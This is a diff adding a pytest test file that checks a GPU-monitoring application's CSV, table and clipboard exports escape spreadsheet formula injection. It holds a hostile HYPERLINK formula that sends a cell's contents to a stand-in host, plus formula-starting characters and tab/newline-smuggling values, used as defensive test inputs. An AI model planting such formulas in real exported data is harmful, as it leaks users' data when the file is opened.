@@ -1,0 +1,123 @@
+"""Names that a spreadsheet would compute, in everything that is exported as a table."""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Sequence
+from pathlib import Path
+
+import numpy as np
+import pytest
+from msgspec import structs
+from PySide6.QtGui import QGuiApplication
+from PySide6.QtWidgets import QApplication
+from pytestqt.qtbot import QtBot
+
+from engine.cli.gpus import csv_lines
+from engine.contract.csv_writer import CsvWriter
+from engine.contract.devices import GpuProcess
+from gui.compare.rows import rows
+from gui.compare.saving import CurvesTable, RowsTable
+from gui.devices.history import DeviceHistory
+from gui.monitor.export import excerpt, write_csv
+from gui.monitor.hosts import Hosts
+from gui.monitor.marks import RunMarks
+from gui.monitor.processes import ProcessesView
+from gui.run.class_table import ConfusionCsv
+from gui.run.figures import ClassFigures
+from gui.settings import Settings
+from tests.engine.cli.machines import gpu as plain_gpu
+from tests.engine.cli.machines import machine
+from tests.gui.compare.runs import compared, run_of
+from tests.gui.devices.snapshots import gpu, snapshot
+from tests.gui.monitor.machines import see
+
+pytestmark = pytest.mark.attacks
+
+FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"press")'
+BEGINNINGS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def read(text: str, delimiter: str = ",") -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
+
+
+def written(*cells: object) -> list[str]:
+    text = io.StringIO(newline="")
+    CsvWriter(text).row(cells)
+    (row,) = read(text.getvalue())
+    return row
+
+
+@pytest.mark.parametrize("beginning", BEGINNINGS)
+def test_that_a_text_that_begins_like_a_formula_is_none(beginning: str) -> None:
+    assert written(f"{beginning}1+cmd") == [f"'{beginning}1+cmd"]
+
+
+@pytest.mark.parametrize("number", ["-0.5", "+3", "-1e-05", "-inf", "-7"])
+def test_that_a_number_stays_a_number(number: str) -> None:
+    assert written(number, float(number)) == [number, str(float(number))]
+
+
+@pytest.mark.parametrize("text", ["roses", "a-b", "x=1", "–", "", "'quoted", "1,5", "two\nlines"])
+def test_that_an_ordinary_text_is_written_as_it_is(text: str) -> None:
+    assert written(text, "beside it") == [text, "beside it"]
+
+
+def nothing_computed(table: Sequence[Sequence[str]]) -> None:
+    cells = [cell for row in table for cell in row]
+    assert f"'{FORMULA}" in cells
+    assert not [cell for cell in cells if cell.startswith(BEGINNINGS) and not is_number(cell)]
+
+
+def is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def test_that_gpus_printed_as_csv_compute_nothing() -> None:
+    seen = machine(structs.replace(plain_gpu(0), name=FORMULA), structs.replace(plain_gpu(1), name=f" {FORMULA}"))
+    nothing_computed([row for line in csv_lines.lines(seen) for row in read(line)])
+
+
+def test_that_the_monitor_s_numbers_compute_nothing(tmp_path: Path) -> None:
+    history = DeviceHistory()
+    for second in range(3):
+        history.add(snapshot(gpu(0), time=1e9 + second), FORMULA)
+    keys = [key for key in history.titles if key.startswith(FORMULA)]
+    part = excerpt(history, keys, ["utilization_percent", "temperature_c"], 0.0, 2e9)
+    table = read(write_csv(tmp_path / "numbers.csv", part).read_text(encoding="utf-8"))
+    nothing_computed(table)
+    assert {row[table[0].index("utilization_percent")] for row in table[1:]} >= {"87"}
+
+
+def test_that_compared_runs_compute_nothing(tmp_path: Path) -> None:
+    runs = tuple(compared(run_of(8, name=FORMULA, dataset=f"/data/{number}"), number) for number in range(2))
+    for table in (CurvesTable(runs), RowsTable(runs, tuple(rows(runs)))):
+        nothing_computed(read(write_csv(tmp_path / "runs.csv", table).read_text(encoding="utf-8")))
+
+
+def test_that_classes_compute_nothing(tmp_path: Path) -> None:
+    table = ConfusionCsv((FORMULA, "@rose"), ClassFigures(1, 1, {}, np.array([[6, 2], [1, 9]])))
+    told = read(write_csv(tmp_path / "classes.csv", table).read_text(encoding="utf-8"))
+    nothing_computed(told)
+    assert told[1:] == [[f"'{FORMULA}", "6", "2"], ["'@rose", "1", "9"]]
+
+
+def test_that_processes_on_the_clipboard_compute_nothing_and_keep_their_columns(
+    qapp: QApplication, qtbot: QtBot, tmp_path: Path
+) -> None:
+    view = ProcessesView(Hosts(Settings(tmp_path / "settings")), RunMarks())
+    qtbot.addWidget(view)
+    hostile = GpuProcess(7, memory_used_bytes=1 << 30, user=FORMULA, name="x\t=1", command="=2\t\n=3")
+    see(view._hosts, snapshot(gpu(0, processes=(hostile,))))
+    view.refresh()
+    view.tree.selectAll()
+    view.copy_selected()
+    table = read(QGuiApplication.clipboard().text(), "\t")
+    nothing_computed(table)
+    assert {len(row) for row in table} == {len(table[0])}
